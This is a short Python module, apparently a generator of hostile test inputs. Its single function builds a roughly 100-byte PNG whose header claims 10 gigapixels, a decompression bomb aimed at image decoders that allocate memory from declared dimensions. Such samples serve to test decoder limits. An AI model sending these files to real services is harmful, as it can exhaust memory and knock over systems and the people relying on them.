"""Files that harm who decodes them."""

import zlib


def bomb() -> bytes:
    """Return a PNG of 100 bytes that claims to hold 10 gigapixels."""
    header = b"IHDR" + (100_000).to_bytes(4) * 2 + bytes([8, 2, 0, 0, 0])
    chunks = (header, b"IDAT" + zlib.compress(b""), b"IEND")
    packed = ((len(c) - 4).to_bytes(4) + c + zlib.crc32(c).to_bytes(4) for c in chunks)
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)
